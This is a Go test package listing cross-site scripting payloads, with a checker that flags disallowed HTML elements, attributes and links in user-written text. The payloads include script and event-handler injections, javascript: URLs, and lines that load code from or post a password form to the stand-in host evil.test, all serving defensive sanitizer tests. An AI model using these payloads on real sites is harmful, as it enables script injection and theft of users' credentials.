// Package noticetest has attack payloads for tests of all code that shows user-written text.
package noticetest

import (
	"strings"

	"golang.org/x/net/html"
)

// Payloads are attempts to run a script in another person's page.
var Payloads = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.test></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script/src=data:,alert(1)>`, `<script>alert(1)//`,
	`<img src=x onerror=alert(1)>`, `<img src="javascript:alert(1)">`, `<img/src/onerror=alert(1)>`, `<img src=x:alert(1) onerror=eval(src)>`, `<image href=x onerror=alert(1)>`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><animate onbegin=alert(1)>`, `<svg><use href="data:image/svg+xml,x"/></svg>`,
	`<math><mi//xlink:href="data:x,<script>alert(1)</script>">`, `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href=" javascript:alert(1)">x</a>`,
	`<a href="java&#x09;script:alert(1)">x</a>`, `<a href="&#106;avascript:alert(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`, `<a href="//evil.test">x</a>`,
	`<a href="http://evil.test">x</a>`, `<a href="#/x" onclick="alert(1)">x</a>`, `<a href="#/x" style="position:fixed">x</a>`, `<a href="#/../../javascript:alert(1)">x</a>`, `<a href="https://user:pass@evil.test">x</a>`,
	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data="data:text/html,x"></object>`, `<embed src="data:text/html,x">`, `<applet code=x></applet>`,
	`<form action="https://evil.test"><input name=password><button>Go</button></form>`, `<button formaction="javascript:alert(1)">x</button>`, `<input autofocus onfocus=alert(1)>`, `<select onfocus=alert(1) autofocus>`, `<textarea onfocus=alert(1) autofocus>`,
	`<body onload=alert(1)>`, `<html onmouseover=alert(1)>`, `<base href="https://evil.test/">`, `<link rel=stylesheet href="https://evil.test/x.css">`, `<meta http-equiv=refresh content="0;url=https://evil.test">`,
	`<style>@import "https://evil.test/x.css";</style>`, `<p style="background:url(https://evil.test/x)">x</p>`, `<p class="btn" id="dialog">x</p>`, `<div hx-get="/admin/staff" hx-trigger="load">x</div>`, `<p data-hx-get="/admin" data-hx-trigger="load">x</p>`,
	`<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`, `<details open ontoggle=alert(1)>x</details>`, `<marquee onstart=alert(1)>x</marquee>`, `<template><script>alert(1)</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<title><img src=x onerror=alert(1)></title>`, `<xmp><img src=x onerror=alert(1)></xmp>`, `<!--><img src=x onerror=alert(1)-->`, `<![CDATA[<script>alert(1)</script>]]>`,
	`"><script>alert(1)</script>`, `'-alert(1)-'`, `</textarea><script>alert(1)</script>`, `</title><script>alert(1)</script>`, `{{constructor.constructor('alert(1)')()}}`, `<p><b onmouseover=alert(1)>x</b></p>`, `<table background="javascript:alert(1)"><td>x</td></table>`, `<isindex type=image src=1 onerror=alert(1)>`,
}

// elements are the allowed elements with their attributes.
var elements = map[string][]string{
	"p": nil, "br": nil, "strong": nil, "em": nil, "ul": nil, "ol": nil, "li": nil, "h2": nil, "h3": nil, "blockquote": nil, "code": nil, "table": nil, "thead": nil, "tbody": nil,
	"tr": nil, "th": nil, "td": nil, "a": {"href", "rel"},
}

// Harm describes a harmful part of HTML as a browser parses it; empty when it is harmless.
func Harm(text string) (problem string) {
	for reader := html.NewTokenizer(strings.NewReader(text)); ; {
		kind := reader.Next()
		if kind == html.ErrorToken {
			return ""
		}
		if kind == html.CommentToken || kind == html.DoctypeToken {
			return "it has a comment"
		}
		if kind == html.TextToken {
			continue
		}
		token := reader.Token()
		attributes, may := elements[token.Data]
		if !may {
			return "it has " + token.Data
		}
		for _, a := range token.Attr {
			if !strings.Contains(" "+strings.Join(attributes, " ")+" ", " "+a.Key+" ") {
				return "it has the attribute " + a.Key
			}
			if a.Key == "href" && !strings.HasPrefix(a.Val, "https://") && !strings.HasPrefix(a.Val, "#/") {
				return "it leads to " + a.Val
			}
			if a.Key == "href" && strings.Contains(a.Val, "@") {
				return "it leads to somebody's address: " + a.Val
			}
		}
	}
}
